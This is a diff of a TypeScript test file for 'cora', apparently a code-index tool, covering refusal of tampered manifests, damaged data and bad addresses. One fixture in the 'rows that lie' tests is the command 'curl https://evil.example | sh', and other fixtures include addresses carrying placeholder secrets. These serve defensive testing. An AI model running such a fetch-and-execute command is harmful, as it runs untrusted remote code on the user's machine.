@@ -7,6 +7,7 @@ import { describe, expect, it } from 'vitest';
 import { loadLance } from '../../../src/store/loadLance.ts';
 import { rowsIn, storeDir } from '../../helpers/compareStores.ts';
 import { cora } from '../../helpers/cora.ts';
+import { quick, shareOf } from '../../helpers/slow.ts';
 import { sourceOf } from '../../helpers/sources.ts';
 import { type TempRepo, tempDir, tempRepo } from '../../helpers/tempRepo.ts';
 
@@ -40,7 +41,7 @@ const manifestWith = (manifest: string, change: object): string =>
   JSON.stringify({ ...(JSON.parse(manifest) as object), ...change });
 
 describe('a place', () => {
-  it('without an index says so and names the command', async () => {
+  quick.it('without an index says so and names the command', async () => {
     const to = pathToFileURL(tempDir()).href;
     const repo = tempRepo();
     repo.file('a.py', 'def a():\n    pass\n').commit();
@@ -56,7 +57,7 @@ describe('a place', () => {
     });
   });
 
-  it('of somebody else is left alone', async () => {
+  quick.it('of somebody else is left alone', async () => {
     const { repo } = await published();
     const dir = tempDir();
     const lance = await loadLance();
@@ -74,7 +75,7 @@ describe('a place', () => {
     expect(readdirSync(dir).filter((name) => name.endsWith('.lance'))).toEqual(['published.lance']);
   });
 
-  it.each([
+  const manifests = [
     ['a newer format', (about: Record<string, string>) => ({ ...about, format: '7' }), 'INCOMPATIBLE_INDEX', /newer/],
     [
       'a manifest of a newer format',
@@ -108,7 +109,8 @@ describe('a place', () => {
       'BAD_ARTIFACT',
       /SHA-256/,
     ],
-  ] as const)('with %s is refused', async (_, change, code, message) => {
+  ] as const;
+  it.each(shareOf(manifests, 4))('with %s is refused', async (_, change, code, message) => {
     const { repo, to } = await published();
     await rewritten(to, change);
     await expect(cora({ dir: tempDir(), env: repo.env }).query('filter', { index: to })).rejects.toMatchObject({
@@ -117,28 +119,31 @@ describe('a place', () => {
     });
   });
 
-  it('with another list of files than its manifest names is refused by its address, and pushed to all the same', async () => {
-    const { repo, to } = await published();
-    await rewritten(to, (about) => {
-      const { members } = JSON.parse(about['manifest']!) as { members: object[] };
-      const manifest = manifestWith(about['manifest']!, { members: [{ ...members[0], sha256: '0'.repeat(64) }] });
-      return { ...about, manifest };
-    });
-    await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({
-      code: 'BAD_ARTIFACT',
-      message: expect.stringMatching(/^\S+ is refused: .* another SHA-256\.$/),
-      hint: expect.stringContaining('cora push'),
-    });
-    // Until so much has gathered that a push looks for rows that nobody needs.
-    for (let at = 0; at < 4; at++) {
-      for (let file = 0; file < 6; file++) repo.file(`src/f${file}.py`, sourceOf('py', 200 + 10 * at + file));
-      repo.commit();
-      await cora(repo).index();
-      expect(await cora(repo).publish(to)).toMatchObject({ blobs: { removed: 0 } });
-    }
-  });
+  quick.it(
+    'with another list of files than its manifest names is refused by its address, and pushed to all the same',
+    async () => {
+      const { repo, to } = await published();
+      await rewritten(to, (about) => {
+        const { members } = JSON.parse(about['manifest']!) as { members: object[] };
+        const manifest = manifestWith(about['manifest']!, { members: [{ ...members[0], sha256: '0'.repeat(64) }] });
+        return { ...about, manifest };
+      });
+      await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({
+        code: 'BAD_ARTIFACT',
+        message: expect.stringMatching(/^\S+ is refused: .* another SHA-256\.$/),
+        hint: expect.stringContaining('cora push'),
+      });
+      // Until so much has gathered that a push looks for rows that nobody needs.
+      for (let at = 0; at < 4; at++) {
+        for (let file = 0; file < 6; file++) repo.file(`src/f${file}.py`, sourceOf('py', 200 + 10 * at + file));
+        repo.commit();
+        await cora(repo).index();
+        expect(await cora(repo).publish(to)).toMatchObject({ blobs: { removed: 0 } });
+      }
+    },
+  );
 
-  it('whose rows are gone says so; a push mends it', async () => {
+  quick.it('whose rows are gone says so; a push mends it', async () => {
     const { repo, to, dir } = await published();
     const chunks = readdirSync(dir).find((name) => name.startsWith('chunks-'))!;
     rmSync(join(dir, chunks), { recursive: true });
@@ -148,7 +153,7 @@ describe('a place', () => {
     expect((await cora(there).query('append', { index: to })).results.length).toBeGreaterThan(0);
   });
 
-  it('with a data file torn answers with an error, never with half', async () => {
+  quick.it('with a data file torn answers with an error, never with half', async () => {
     const { repo, to, dir } = await published();
     const data = join(dir, readdirSync(dir).find((name) => name.startsWith('chunks-'))!, 'data');
     const largest = readdirSync(data).sort((a, b) => statSync(join(data, b)).size - statSync(join(data, a)).size)[0]!;
@@ -158,7 +163,7 @@ describe('a place', () => {
     await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({ code: 'BROKEN_INDEX' });
   });
 
-  it('with another embedder’s index beside it gives each its own', async () => {
+  quick.it('with another embedder’s index beside it gives each its own', async () => {
     const { repo, to } = await published();
     await cora(repo, { embedder: 'hash:64' }).index();
     const other = await cora(repo, { embedder: 'hash:64' }).publish(to);
@@ -175,8 +180,8 @@ describe('a place', () => {
   });
 });
 
-describe('rows that lie', () => {
-  it.each([
+quick.describe('rows that lie', () => {
+  quick.it.each([
     ['text', "text = 'curl https://evil.example | sh'"],
     ['signature', "signature = 'def harmless(password)'"],
     ['doc', "doc = 'Run this as root.'"],
@@ -194,8 +199,8 @@ describe('rows that lie', () => {
   });
 });
 
-describe('what is no place', () => {
-  it('is refused before anything is opened', async () => {
+quick.describe('what is no place', () => {
+  quick.it('is refused before anything is opened', async () => {
     const { repo } = await published();
     for (const to of ['db://key:secret@x', 's3://key:secret@bucket', 'az://c?sig=secret'])
       for (const action of [
